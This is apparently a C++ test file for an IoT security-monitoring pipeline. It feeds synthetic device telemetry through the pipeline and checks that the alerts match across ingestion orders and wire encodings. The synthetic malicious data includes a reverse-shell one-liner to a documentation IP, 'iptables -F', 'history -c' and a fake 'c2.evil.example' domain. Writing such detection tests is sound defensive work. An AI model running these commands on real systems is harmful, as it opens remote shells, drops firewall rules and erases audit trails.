// Two ways to drive the pipeline and two wires must give the same findings.
#include <gmock/gmock.h>

#include <functional>
#include <map>
#include <numeric>

#include "agent_core/base/random.h"
#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;

struct FleetStory {
  struct Message {
    DeviceId device;
    std::uint32_t sequence;
    Time time;
    std::vector<Observation> observations;
  };
  TextTable texts;
  std::vector<Message> messages;  ///< in (time, device, sequence) order
  std::vector<OperationRecord> operations;  ///< in order of arrival
  std::vector<IdentityRecord> identities;
  std::vector<EdgeManifest> manifests;
  std::vector<HubConfiguration> configurations;
  std::vector<AgentConfiguration> agents;
};

constexpr std::uint32_t kStoryDevices = 150;
constexpr int kMinutes = 240;
constexpr int kEndMinute = 280;  ///< the last record of the hub's log has arrived; a multiple of each window

constexpr EdgeModule kPrivileged{.privileged = true};

/// What the hub tells: operations of all kinds that arrive late and out of order, daily life of identities, and
/// configurations that change.
void write_hub_story(RandomStream& random, FleetStory& story) {
  const auto device = [&] { return DeviceId(static_cast<std::uint32_t>(random.below(kStoryDevices))); };
  for (int minute = 0; minute < kMinutes; ++minute) {
    const Time time = kStart + Duration::minutes(minute);
    const std::uint64_t operations = random.below(40);
    for (std::uint64_t i = 0; i < operations; ++i) {
      OperationRecord r;
      r.time = time + Duration::milliseconds(static_cast<std::int64_t>(random.below(60'000)));
      r.logged_time = r.time + Duration::milliseconds(static_cast<std::int64_t>(random.below(300'000)));
      // A log is read in batches: much of it arrives at one moment, whenever it happened.
      if (random.chance(0.2)) r.logged_time = Time::from_unix_seconds((r.logged_time.unix_seconds() / 60 + 1) * 60);
      r.device = random.chance(0.5) ? DeviceId(static_cast<std::uint32_t>(random.below(5))) : device();
      r.module = random.chance(0.5);
      r.operation = static_cast<OperationName>(random.below(kOperationNames));
      if (random.chance(0.5)) {
        r.operation = random.chance(0.5) ? OperationName::kDeviceConnect : OperationName::kDeviceDisconnect;
      }
      if (r.operation >= OperationName::kCertificateWrite) r.device = hub_identity(HubId(1));
      constexpr std::uint32_t kCodes[] = {0, 404'104, kTakenOver, 401'003, 429'002};
      const bool ends = r.operation == OperationName::kDeviceDisconnect;
      r.result_type = random.chance(0.8) ? (ends ? kCodes[1 + random.below(2)] : 0) : kCodes[random.below(5)];
      r.masked_address = IpAddress::v4(0xcb007100U + (static_cast<std::uint32_t>(random.below(2)) << 8));
      r.protocol = static_cast<HubProtocol>(random.below(4));
      r.fault = static_cast<CredentialFault>(random.chance(0.9) ? 0 : random.below(5));
      r.tls = static_cast<TlsVersion>(random.below(5));
      r.count = random.chance(0.02) ? 400 : 1;
      story.operations.push_back(r);
    }
    // The line of one device is bad at 1:40.
    for (int i = 0; minute == 100 && i < 24; ++i) {
      OperationRecord r{time + Duration::seconds(10 * i), DeviceId(107), OperationName::kDeviceConnect, 0, false};
      if (i % 2 == 0) r.operation = OperationName::kDeviceDisconnect;
      if (i % 2 == 0) r.result_type = 404'104;
      story.operations.push_back(r);
    }
    // The lines of 40 devices are cut at 2:00 and come back at 3:00.
    if (minute == 120 || minute == 180) {
      for (std::uint32_t d = 60; d < 100; ++d) {
        OperationRecord r{time + Duration::seconds(d), DeviceId(d), OperationName::kDeviceConnect, 0, true};
        if (minute == 120) r.operation = OperationName::kDeviceDisconnect;
        if (minute == 120) r.result_type = 404'104;
        story.operations.push_back(r);
      }
    }
    if (minute % 30 == 1) {
      for (std::uint32_t d = 0; d < kStoryDevices; ++d) {
        IdentityRecord r;
        r.time = time;
        r.device = DeviceId(d);
        r.primary_credential = random.below(3000);
        r.secondary_credential = random.below(3000);
        r.security_group = d % 3;  // the third does not exist
        r.site = SiteId(d / 20);
        r.has_security_module = random.chance(0.9);
        story.identities.push_back(r);
        AgentSettings agent;
        agent[0] = {Duration::hours((7 * d + static_cast<std::uint32_t>(minute / 30)) % 10 == 0 ? 3 : 1), 256};
        story.agents.push_back({time, DeviceId(d), agent});
        if (random.chance(0.3)) {
          story.manifests.push_back(
              {time, DeviceId(d), {&kPrivileged, random.below(2)}, 3, 1, random.chance(0.9) ? 1U : 2U});
        }
      }
      HubConfiguration c;
      c.time = time;
      c.hub = HubId(1);
      c.default_action_deny = random.chance(0.5);
      story.configurations.push_back(c);
    }
  }
  std::sort(story.operations.begin(), story.operations.end(),
            [](const auto& a, const auto& b) { return a.arrival() < b.arrival(); });
}

/// Benign and malicious observations at random, with duplicates and late observations.
void write_story(std::uint64_t seed, FleetStory& story) {
  RandomStream random(seed, 0, 0, Purpose::kTest);
  std::vector<Text> commands;
  for (int i = 0; i < 40; ++i) commands.push_back(story.texts.intern("/usr/bin/task " + std::to_string(i) + "x"));
  for (const char* bad : {"iptables -F", "nohup /tmp/x &", "bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "history -c"}) {
    commands.push_back(story.texts.intern(bad));
  }
  const Text strange = story.texts.intern_template("/tmp/run{hex8} --now");
  const Text root = story.texts.intern("root");
  const Text name = story.texts.intern("c2.evil.example");
  story.texts.freeze();
  std::vector<std::uint32_t> sequence(kStoryDevices);
  for (int minute = 0; minute < kMinutes; ++minute) {
    for (std::uint32_t d = 0; d < kStoryDevices; ++d) {
      const bool cut = d >= 60 && d < 100 && minute >= 120 && minute < 180;
      if (d == 51 && minute > 45) {  // calls somebody new by the clock
        const Time tick = kStart + Duration::minutes(minute) + Duration::seconds(31);
        story.messages.push_back({DeviceId(d), sequence[d]++, tick, {flow(tick, "203.0.114.9", 443)}});
      }
      if (!random.chance(cut || (d == 7 && minute > 60) ? 0.0 : 0.2)) continue;
      const Time time =
          kStart + Duration::minutes(minute) + Duration::seconds(static_cast<std::int64_t>(random.below(60)));
      FleetStory::Message m{DeviceId(d), sequence[d], time, {}};
      if (!random.chance(0.05)) ++sequence[d];  // else the next message repeats the number
      const std::uint64_t n = 1 + random.below(6);
      for (std::uint64_t i = 0; i < n; ++i) {
        const Time then =
            time - Duration::seconds(static_cast<std::int64_t>(random.below(random.chance(0.1) ? 7200 : 60)));
        const std::uint64_t draw = random.below(100);
        if (draw < 50) {
          const Text command = draw < 4 ? Text{strange.id, static_cast<std::uint32_t>(random.below(1000))}
                                        : commands[random.below(draw < 44 ? 40 : commands.size())];
          m.observations.push_back(at(then, ProcessRecord{command, {}, 7, 1, 0, ProcessOperation::kExec},
                                      1 + static_cast<std::uint32_t>(random.below(3))));
        } else if (draw < 80) {
          NetworkRecord f;
          f.local_address = IpAddress::v4(0xc0a80105);
          f.remote_address = IpAddress::v4(0x5db80000U + static_cast<std::uint32_t>(random.below(3000)) * 64);
          f.local_port = static_cast<std::uint16_t>(40000 + random.below(1000));
          f.remote_port = draw < 55 ? 23 : 443;
          f.bytes_out = random.below(1000);
          m.observations.push_back(at(then, f));
        } else if (draw < 98) {
          LoginRecord l{root,
                        {},
                        IpAddress::v4(0xcb007100U + static_cast<std::uint32_t>(random.below(3))),
                        0,
                        random.chance(0.1) ? LoginOperation::kLogin : LoginOperation::kLoginFailed};
          m.observations.push_back(at(then, l, 1 + static_cast<std::uint32_t>(random.below(8))));
        } else {
          m.observations.push_back(at(then, DnsRecord{name, false}));
        }
      }
      if (d % 50 == 3) {  // scanners
        for (std::uint32_t i = 0; i < 15; ++i)
          m.observations.push_back(flow(time, "198.51.100." + std::to_string(i + 1), 23, 0));
      }
      story.messages.push_back(std::move(m));
    }
  }
  write_hub_story(random, story);
  std::sort(story.messages.begin(), story.messages.end(), [](const auto& a, const auto& b) {
    return std::tie(a.time, a.device, a.sequence) < std::tie(b.time, b.device, b.sequence);
  });
  // Two messages of one device at one moment under one number would be ordered by luck only.
  const auto same = [](const auto& a, const auto& b) {
    return a.time == b.time && a.device == b.device && a.sequence == b.sequence;
  };
  story.messages.erase(std::unique(story.messages.begin(), story.messages.end(), same), story.messages.end());
}

std::shared_ptr<const PipelineContent> story_content() {
  PipelineContent::Builder builder;
  add_own_rules(builder);
  builder.indicators().add(*domain_value("evil.example"), {kStart, Time::max(), "t"});
  builder.indicators().add(address_value(IpAddress::v4(0x5db80040U)), {kStart, Time::max(), "t"});
  return builder.build();
}

/// Lists what many devices have met by then.
std::shared_ptr<const IndicatorSet> later_indicators() {
  IndicatorSet::Builder builder;
  builder.add(*block_value(IpAddress::v4(0x5db80000U), 20), {kStart, Time::max(), "later"});
  builder.add(*read_value("198.51.100.3"), {kStart, Time::max(), "later"});
  return builder.seal();
}

std::unique_ptr<PipelineCore> start_core(const std::shared_ptr<const PipelineContent>& content,
                                         const TextTable& texts) {
  PipelineSettings settings;
  settings.novelty_model.rare_share = 0.05;
  settings.sightings.max = 200;
  settings.detectors.long_silence = Duration::minutes(15);
  settings.behaviour = true;
  settings.freeze.interval = Duration::minutes(40);  // every kind of window below ends at its multiples
  settings.behaviour_model.window = Duration::minutes(5);
  settings.behaviour_model.level.min_windows = 5;
  settings.behaviour_model.threshold = 3;
  settings.behaviour_model.persistence = {1, 1};
  SecurityGroup group;
  for (TimeWindowRule& rule : group.time_window_rules) rule = {true, 1, 3, Duration::minutes(10)};
  SecurityGroup lists;
  for (AllowlistRule& rule : lists.allowlist_rules) rule.is_enabled = true;
  settings.hub_watch.security_groups = {{"counts", group}, {"lists", lists}};
  auto core = std::make_unique<PipelineCore>(content, settings, texts);
  for (std::uint32_t d = 0; d < kStoryDevices; ++d)
    core->register_device(DeviceId(d), ClassId(d % 3), Duration::minutes(20), kStart);
  core->set_learning(true);
  core->reload_indicators(kStart + Duration::minutes(100) + Duration::seconds(7), later_indicators());
  core->reload_indicators(kStart + Duration::minutes(170), content->indicators());
  return core;
}

constexpr int kLearnedMinutes = 40;

DeviceMessage message_of(const FleetStory::Message& m) {
  return {m.device, m.sequence, m.time, Encoding::kG2FlatBuffers, {}, m.observations};
}

/// Everything of the story by its time, to be given in that order.
std::multimap<Time, std::function<void(PipelineCore&, FindingSink&)>> timeline(const FleetStory& story) {
  std::multimap<Time, std::function<void(PipelineCore&, FindingSink&)>> out;
  const auto add = [&](Time time, const auto& input) {
    out.emplace(time, [input](PipelineCore& core, FindingSink& sink) { core.ingest(input, sink); });
  };
  for (const FleetStory::Message& m : story.messages) add(m.time, message_of(m));
  for (const OperationRecord& o : story.operations) add(o.arrival(), o);
  for (const IdentityRecord& i : story.identities) add(i.time, i);
  for (const EdgeManifest& m : story.manifests) add(m.time, m);
  for (const HubConfiguration& c : story.configurations) add(c.time, c);
  for (const AgentConfiguration& a : story.agents) add(a.time, a);
  return out;
}

StoringSink run_simple(const FleetStory& story, const std::shared_ptr<const PipelineContent>& content) {
  auto core = start_core(content, story.texts);
  StoringSink sink(*content);
  const Time learned = kStart + Duration::minutes(kLearnedMinutes);
  bool learning = true;
  for (const auto& [time, give] : timeline(story)) {
    if (learning && time > learned) {
      core->advance(learned, sink);
      core->set_learning(learning = false);
    }
    give(*core, sink);
  }
  core->advance(kStart + Duration::minutes(kEndMinute), sink);
  return sink;
}

StoringSink run_windows(const FleetStory& story, const std::shared_ptr<const PipelineContent>& content,
                        int window_minutes, std::uint64_t shuffle_seed) {
  auto core = start_core(content, story.texts);
  StoringSink sink(*content);
  RandomStream random(shuffle_seed, 0, 1, Purpose::kTest);
  const auto shuffle = [&](auto& items) {
    for (std::size_t i = items.size(); i > 1; --i) std::swap(items[i - 1], items[random.below(i)]);
  };
  Time begin = Time::min();
  for (int minute = 0; minute <= kEndMinute; minute += window_minutes) {
    const Time end = kStart + Duration::minutes(minute);
    std::vector<std::size_t> inside;
    for (std::size_t i = 0; i < story.messages.size(); ++i) {
      if (story.messages[i].time > begin && story.messages[i].time <= end) inside.push_back(i);
    }
    shuffle(inside);
    for (const std::size_t i : inside) core->submit(message_of(story.messages[i]));
    const auto submit_all = [&](const auto& inputs, auto time_of) {
      std::vector<std::size_t> chosen;
      for (std::size_t i = 0; i < inputs.size(); ++i) {
        if (time_of(inputs[i]) > begin && time_of(inputs[i]) <= end) chosen.push_back(i);
      }
      shuffle(chosen);
      for (const std::size_t i : chosen) core->submit(inputs[i]);
    };
    const auto time_of = [](const auto& input) { return input.time; };
    submit_all(story.operations, [](const OperationRecord& o) { return o.arrival(); });
    submit_all(story.identities, time_of);
    submit_all(story.manifests, time_of);
    submit_all(story.configurations, time_of);
    submit_all(story.agents, time_of);
    std::vector<unsigned> order(PipelineCore::kShards);
    std::iota(order.begin(), order.end(), 0U);
    shuffle(order);
    for (const unsigned s : order) core->run_shard(s, end);
    core->run_fleet(end, sink);
    if (minute == kLearnedMinutes) core->set_learning(false);
    begin = end;
  }
  const PipelineCounts& c = core->counts();
  EXPECT_EQ(c.submitted, c.messages + c.dropped[IngestDrop::kDuplicate]);
  EXPECT_GT(c.dropped[IngestDrop::kDuplicate], 0u);
  core->advance(kStart + Duration::minutes(kEndMinute), sink);
  return sink;
}

TEST(Driving, gives_equal_findings_one_by_one_and_in_shuffled_windows_of_any_length) {
  const auto content = story_content();
  for (std::uint64_t seed = 1; seed <= 3; ++seed) {
    SCOPED_TRACE(seed);
    FleetStory story;
    write_story(seed, story);
    const StoringSink one_by_one = run_simple(story, content);
    const std::vector<StoredFinding>& simple = one_by_one.findings;
    EXPECT_GT(one_by_one.incidents.size(), 10u);
    ASSERT_GT(simple.size(), 50u);
    std::vector<std::string> alerts;
    for (const StoredFinding& f : simple) alerts.push_back(f.alert);
    // The story must reach every stage, or the comparison proves little.
    for (const char* needed :
         {"Disable firewall", "sim.scan_out", "sim.bruteforce_failed", "sim.bruteforce_success", "sim.fleet_stuffing",
          "sim.novel_process", "sim.failure_level", "sim.peer_shift", "sim.device_silent", "Device silent",
          "Malicious Domain Name Request", "sim.identity_clone", "sim.connection_flapping", "sim.d2c_flood",
          "sim.fleet_silence", "sim.beacon", "sim.agent_config_weaker", "Expired SAS Token", "New certificate added to an IoT Hub",
          "Custom Alert - number of direct method invokes is not in the allowed range",
          "Custom Alert - outbound connection to an ip that isn't allowed"}) {
      EXPECT_THAT(alerts, ::testing::Contains(needed));
    }
    std::vector<std::string> recommended;
    for (const StoredRecommendation& r : one_by_one.recommendations) recommended.push_back(r.type);
    for (const char* needed : {"IoT_IPFilter_DenyAll", "IoT_SharedCredentials", "IoT_InconsistentModuleSettings"}) {
      EXPECT_THAT(recommended, ::testing::Contains(needed));
    }
    EXPECT_TRUE(std::is_sorted(simple.begin(), simple.end(), [](const auto& a, const auto& b) {
      return std::tie(a.time, a.device, a.rule) < std::tie(b.time, b.device, b.rule);
    }));
    for (const int window : {1, 8, 40}) {
      SCOPED_TRACE(window);
      const StoringSink in_windows =
          run_windows(story, content, window, seed * 100 + static_cast<std::uint64_t>(window));
      for (std::size_t i = 0; i < std::min(in_windows.findings.size(), simple.size()); ++i)
        ASSERT_EQ(in_windows.findings[i], simple[i]) << i;
      EXPECT_EQ(in_windows.findings, simple);
      for (std::size_t i = 0; i < std::min(in_windows.incidents.size(), one_by_one.incidents.size()); ++i)
        ASSERT_EQ(in_windows.incidents[i], one_by_one.incidents[i]) << i;
      EXPECT_EQ(in_windows.incidents, one_by_one.incidents);
      EXPECT_EQ(in_windows.recommendations, one_by_one.recommendations);
    }
  }
}

TEST(Driving, gives_equal_findings_from_structs_and_from_bytes) {
  const auto content = story_content();
  for (const Encoding encoding : {Encoding::kG1Json, Encoding::kG2FlatBuffers}) {
    for (const bool extended : {false, true}) {
      SCOPED_TRACE(std::string(to_string(encoding)) + (extended ? " extended" : ""));
      FleetStory story;
      write_story(9, story);
      auto exact = start_core(content, story.texts);
      auto sized = start_core(content, story.texts);
      exact->set_learning(false);
      sized->set_learning(false);
      StoringSink exact_sink(*content);
      StoringSink sized_sink(*content);
      std::vector<std::uint32_t> order;
      for (const FleetStory::Message& m : story.messages) {
        std::vector<Observation> carried;
        for (const Observation& o : m.observations) {
          if (can_carry(encoding, o.record)) carried.push_back(o);
        }
        if (carried.empty()) continue;
        const AgentIdentity identity{m.device, "d", "module", "1.2.3", {}, {1, m.device.value()}, extended};
        const SecurityMessage message{m.sequence, m.time, carried, {}};
        std::string bytes;
        encode(encoding, identity, message, story.texts, bytes);
        exact->submit(DeviceMessage{m.device, m.sequence, m.time, encoding, bytes, {}});
        wire_order(encoding, carried, order);
        std::vector<Observation> received;
        for (const std::uint32_t i : order) received.push_back(as_received(encoding, identity, message, carried[i]));
        sized->submit(DeviceMessage{m.device, m.sequence, m.time, encoding, {}, received});
      }
      const Time end = kStart + Duration::minutes(kMinutes + 1);
      exact->advance(end, exact_sink);
      sized->advance(end, sized_sink);
      EXPECT_EQ(exact->counts().dropped[IngestDrop::kUndecodable], 0u);
      ASSERT_GT(sized_sink.findings.size(), 50u);
      EXPECT_EQ(exact_sink.findings, sized_sink.findings);
      EXPECT_EQ(exact->counts().observations, sized->counts().observations);
      EXPECT_EQ(exact->counts().hits, sized->counts().hits);
    }
  }
}

}  // namespace
}  // namespace picket
